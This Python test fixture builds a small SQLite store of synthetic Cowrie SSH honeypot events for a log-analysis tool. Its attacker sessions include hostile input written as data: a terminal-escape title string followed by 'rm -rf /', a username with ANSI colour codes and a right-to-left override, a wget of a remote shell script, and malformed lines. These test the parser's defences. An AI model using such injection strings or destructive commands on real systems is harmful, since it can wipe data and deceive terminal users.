"""A small store to read from: two sensors, two days, honest and hostile attackers, loaded as a user would load it."""

from __future__ import annotations

from pathlib import Path

from tests.logs import DAY_SECONDS, event
from tests.quiet import Quiet

from nacre.ingest.bulk import Load, Loader
from nacre.parse.fold import narrow
from nacre.store.contract import RunStart
from nacre.store.sqlite import SqliteStore

BEFORE = 3 * DAY_SECONDS  # 2026-11-23
TODAY = 4 * DAY_SECONDS  # 2026-11-24
NOW_US = 1_795_500_000_000_000  # 2026-11-24T06:00:00Z
SCOUT, BUSY, HOSTILE = "aaaa00000001", "bbbb00000001", "bbbb00000002"
STEER = "\x1b[31mroot\u202e"  # would turn the terminal red, and the writing round
TITLE = "echo \x1b]0;owned\x07\nrm -rf /"
URL = "http://198.51.100.9/x.sh"
SHASUM = "c0ffee" + "0" * 58


def _scout() -> list[bytes]:
    return [
        event("session.connect", SCOUT, BEFORE, dst_ip="10.0.0.1", dst_port=2222),
        event("client.version", SCOUT, BEFORE + 1, version="SSH-2.0-Go"),
        event("client.kex", SCOUT, BEFORE + 1, hassh="a" * 32, kexAlgs=["curve25519-sha256"]),
        event("login.failed", SCOUT, BEFORE + 2, username="root", password="123456"),
        event("session.closed", SCOUT, BEFORE + 3, duration_ms=3000),
    ]


def _busy() -> list[bytes]:
    return [
        event("session.connect", BUSY, TODAY, dst_ip="10.0.0.1", dst_port=2222),
        event("client.version", BUSY, TODAY + 1, version="SSH-2.0-Go"),
        event("login.failed", BUSY, TODAY + 2, username="root", password="123456"),
        event("login.success", BUSY, TODAY + 3, username="root", password="admin"),
        event("command.input", BUSY, TODAY + 4, input="uname -a"),
        event("command.input", BUSY, TODAY + 5, input=f"wget {URL}"),
        event("session.file_download", BUSY, TODAY + 6, url=URL, shasum=SHASUM, outfile="dl/x"),
        event("direct-tcpip.request", BUSY, TODAY + 7, dst_ip="ya.ru", dst_port=80),
        event("session.closed", BUSY, TODAY + 65, duration_ms=65_200),
    ]


def _hostile() -> list[bytes]:
    return [
        event("session.connect", HOSTILE, TODAY + 3600, src_ip="2001:db8::5"),
        event("login.success", HOSTILE, TODAY + 3601, src_ip="2001:db8::5", username=STEER, password=""),
        event("command.input", HOSTILE, TODAY + 3602, src_ip="2001:db8::5", input=TITLE),
        event("session.teleport", HOSTILE, TODAY + 3603, src_ip="2001:db8::5", **{"a\x1bb": "x\x00y"}),
        b"this is not JSON",
    ]


def _cellar() -> list[bytes]:
    lines = [
        event("session.connect", BUSY, TODAY + 7200, src_ip="198.51.100.77"),
        event("login.failed", BUSY, TODAY + 7201, src_ip="198.51.100.77", username="pi", password="pi"),
        event("session.closed", BUSY, TODAY + 7202, src_ip="198.51.100.77", duration_ms=2000),
    ]
    return [line.replace(b'"attic"', b'"cellar"').replace(b'"ssh"', b'"telnet"') for line in lines]


def build_store(folder: Path) -> Path:
    """Make the store in `folder` and return its path."""
    log = folder / "cowrie.json"
    log.write_bytes(b"\n".join([*_scout(), *_busy(), *_hostile(), *_cellar()]) + b"\n")
    path = folder / "nacre.db"
    store = SqliteStore(path, narrow=narrow, clock=lambda: NOW_US)
    loader = Loader(store, Load(files=(log,), jobs=0), clock=lambda: NOW_US, watcher=Quiet())
    loader.run(RunStart(mode="load", version="0", actor="ann", host="desk"))
    store.close()
    return path
